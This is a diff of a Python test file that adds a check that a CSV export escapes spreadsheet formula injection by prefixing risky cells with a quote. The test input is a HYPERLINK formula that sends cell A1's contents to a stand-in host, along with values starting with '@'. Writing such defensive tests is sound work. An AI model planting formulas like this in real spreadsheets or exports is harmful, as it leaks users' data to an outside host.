@@ -69,6 +69,18 @@ def test_csv_holds_what_the_list_holds(ask: Ask) -> None:
     assert by_id["city-000"]["attributes"] == '{"by":"hand"}'
 
 
+def test_no_cell_of_a_csv_is_a_formula(ask: Ask) -> None:
+    formula = '=HYPERLINK("http://a.b/?x="&A1,"Open")'
+    put(1, source="@sum", event_type=formula)
+
+    (row,) = read_csv(ask(f"/export?region=chicago&{JANUARY}&format=csv"))
+
+    assert row["event_type"] == f"'{formula}"
+    assert row["external_id"] == "'@sum-000"
+    assert row["source"] == "'@sum"
+    assert row["lon"] == "-87.6"
+
+
 @pytest.mark.parametrize("kind", ["arrow", "parquet"])
 def test_arrow_and_parquet_hold_the_same_rows(ask: Ask, kind: str) -> None:
     pa = pytest.importorskip("pyarrow")
